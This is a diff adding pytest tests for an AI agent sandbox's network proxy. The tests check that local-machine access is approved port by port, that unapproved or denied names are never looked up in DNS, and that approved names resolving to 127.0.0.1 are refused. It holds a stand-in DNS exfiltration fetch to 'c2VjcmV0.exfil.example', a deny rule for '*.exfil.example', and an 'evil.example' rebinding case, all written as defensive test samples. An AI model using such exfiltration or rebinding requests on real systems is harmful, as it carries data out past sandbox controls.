@@ -33,6 +33,21 @@ print("tunnel:", conn.getresponse().read().decode())
 
 
 @pytest.fixture
+def names(monkeypatch):
+    """Host names the kernel's proxy resolves to 127.0.0.1 (as a public name could, by DNS)."""
+    from jupyter_agent.sandbox import proxy
+
+    real = proxy._resolve
+    table: dict[str, list[str]] = {}
+
+    async def resolve(host, port):
+        return table[host] if host in table else await real(host, port)
+
+    monkeypatch.setattr(proxy, "_resolve", resolve)
+    return table
+
+
+@pytest.fixture
 def upstream():
     seen: list[str] = []
 
@@ -64,7 +79,8 @@ async def test_allowed_domains_are_reached_and_others_asked_about(tmp_path, reje
     assert seen == ["/allowed"]
     [(tool, question)] = reject.asks  # the command itself ran unasked; the new host was asked about
     assert tool == "Bash" and f"localhost (port {port})" in question.message
-    assert question.suggestions[0].rules == ("WebFetch(domain:localhost)",)
+    assert f"this machine or its local network: whatever listens on port {port} runs outside" in question.message
+    assert question.suggestions == ()  # no "Always allow" for this machine
     assert f"Network requests the sandbox refused (the program got HTTP 403):\nlocalhost:{port}: the user refused" in out.text
     (tmp_path / "work" / "tunnel.py").write_text(TUNNEL)
     tunnel = await bash(ctx, reject, f"python3 tunnel.py {port}")
@@ -81,6 +97,45 @@ async def test_an_approved_host_is_reached_and_not_asked_about_again(tmp_path, a
     second = await bash(ctx, approve, f"python3 fetch.py http://localhost:{port}/three")
     assert "upstream /two" in first.text and "upstream /three" in second.text, (first.text, second.text)
     assert seen == ["/one", "/two", "/three"] and len(approve.asks) == 1
+
+
+async def test_this_machine_is_approved_port_by_port(tmp_path, approve, bwrap_ok, upstream):
+    port, seen = upstream
+    ctx = sandboxed_context(tmp_path)
+    (tmp_path / "work" / "fetch.py").write_text(FETCH)
+    await bash(ctx, approve, f"python3 fetch.py http://127.0.0.1:{port}/one")
+    other = await bash(ctx, approve, f"python3 fetch.py http://127.0.0.1:{port}/two http://127.0.0.1:1/three")
+    assert seen == ["/one", "/two"] and "http://127.0.0.1:1/three 502" in other.text, other.text
+    assert [q.message.split(")")[0] for _t, q in approve.asks] == ["Network request outside the sandbox: 127.0.0.1 (port "
+                                                                    f"{port}", "Network request outside the sandbox: 127.0.0.1 (port 1"]
+
+
+async def test_a_name_is_not_looked_up_before_it_is_allowed(tmp_path, reject, bwrap_ok, monkeypatch):
+    from jupyter_agent.sandbox import proxy
+
+    looked_up: list[str] = []
+
+    async def resolve(host, port):
+        looked_up.append(host)
+        return ["192.0.2.1"]
+
+    monkeypatch.setattr(proxy, "_resolve", resolve)
+    ctx = sandboxed_context(tmp_path, denied_domains=("*.exfil.example",))
+    (tmp_path / "work" / "fetch.py").write_text(FETCH)
+    out = await bash(ctx, reject, "python3 fetch.py http://c2VjcmV0.exfil.example/ http://other.example/")
+    assert "c2vjcmv0.exfil.example is in sandbox.network.deniedDomains" in out.text  # names are case-free
+    assert "the user refused the connection to other.example" in out.text
+    assert looked_up == []  # neither name reached DNS (a query alone can carry data out)
+
+
+async def test_an_approved_name_that_leads_to_this_machine_is_refused(tmp_path, approve, bwrap_ok, upstream, names):
+    port, seen = upstream
+    names["evil.example"] = names["named.example"] = ["127.0.0.1"]
+    ctx = sandboxed_context(tmp_path, allowed_domains=("named.example",))
+    (tmp_path / "work" / "fetch.py").write_text(FETCH)
+    out = await bash(ctx, approve, f"python3 fetch.py http://evil.example:{port}/x http://named.example:{port}/y")
+    assert "403 jupyter-agent sandbox: evil.example leads to 127.0.0.1, an address of this machine" in out.text
+    assert "hello from upstream /y" in out.text and seen == ["/y"], out.text
 
 
 async def test_a_program_that_ignores_the_proxy_finds_no_network(tmp_path, approve, bwrap_ok, upstream):
